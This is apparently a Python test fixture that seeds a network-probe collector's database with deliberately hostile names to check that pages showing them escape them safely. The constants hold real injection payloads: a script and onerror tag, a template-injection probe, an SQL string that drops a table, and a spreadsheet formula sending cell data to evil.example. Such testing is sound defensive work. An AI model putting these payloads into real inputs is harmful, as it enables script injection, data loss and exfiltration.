"""A small history in which every name is meant to break what shows it."""

from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from uuid import UUID

import sqlalchemy as sa
from starlette.testclient import TestClient

from collector.app import create_app
from collector.settings import Settings
from tests.collector.reads.a_house import ADMIN, Found, House
from wire.announce import Heartbeat

HTML = "<script>document.title='owned'</script><img src=//evil.example/x onerror=\"document.title='owned'\">"
QUOTES = "\" onmouseover=\"document.title='owned'\" x='{{7*7}}{% raw %}&amp;"
SQL = "'; DROP TABLE runs; -- %s \\x00"
CONTROL = "bell\x07 escape\x1b[31m tab\t line\nreturn\r delete\x7f"
BACKWARDS = "\u202ertl\u202c \u05d0\u05d1\u05d2 \u200f\u0627\u0644"
LONG = "W" * 255
FORMULA = '=HYPERLINK("//evil.example/?"&A1,"x")'
NAMES = (HTML, QUOTES, SQL, CONTROL, BACKWARDS, LONG, FORMULA)

FLEET = HTML
ROUNDS, PROBES = 3, 20
BEGUN = datetime(2026, 3, 23, 8, 0, tzinfo=UTC)
EVERY = timedelta(hours=6)


def write_hostile(engine: sa.Engine) -> None:
    """Write two sweeps through the collector's own routes, which take every one of these names."""
    url = engine.url.render_as_string(hide_password=False)
    settings = Settings(database_url=url, admin_token=ADMIN[1], keep_events_s=1e9)
    with TestClient(create_app(settings, engine=engine)) as client:
        house = House(client=client, engine=engine, settings=settings)
        fleet_id = house.fleet(FLEET, servers=[{"name": name} for name in NAMES])
        made = [
            house.tester(fleet_id, name, location={"region": NAMES[number - 1]})
            for number, name in enumerate(NAMES)
        ]
        for number in range(2):
            _sweep(house, fleet_id, made, started_at=BEGUN + number * EVERY)
        for tester_id in made:
            beat = Heartbeat(tester_id=tester_id, state="waiting", last_error=HTML)
            answer = client.post(
                "/api/v1/heartbeats", content=beat.to_bytes(), auth=(str(tester_id), str(tester_id))
            )
            assert answer.status_code == 204, answer.text


def _sweep(house: House, fleet_id: UUID, testers: Sequence[UUID], *, started_at: datetime) -> None:
    sweep_id = house.sweep(fleet_id, started_at=started_at)
    for number, tester_id in enumerate(testers):
        for index in range(ROUNDS):
            base = 10_000 * (number + 1)
            found = [
                Found(
                    server=name,
                    group=NAMES[place - 1],
                    address=f"192.0.2.{place + 1}",
                    rtt_us=[-1] * PROBES if place == 1 else [base + 100 * place + at for at in range(PROBES)],
                    details={"icmp_errors": {HTML: 1}},
                )
                for place, name in enumerate(NAMES)
            ]
            unfit = number == 0 and index == 1
            house.report(
                tester_id,
                sweep_id,
                *found,
                index=index,
                started_at=started_at + timedelta(minutes=10 * index),
                health={"trusted": not unfit, "reason": HTML if unfit else None, "kernel": HTML},
            )
    ended = house.client.post(
        f"/api/v1/sweeps/{sweep_id}/finish", json={"outcome": "partial", "note": QUOTES}, auth=ADMIN
    )
    assert ended.status_code == 200, ended.text
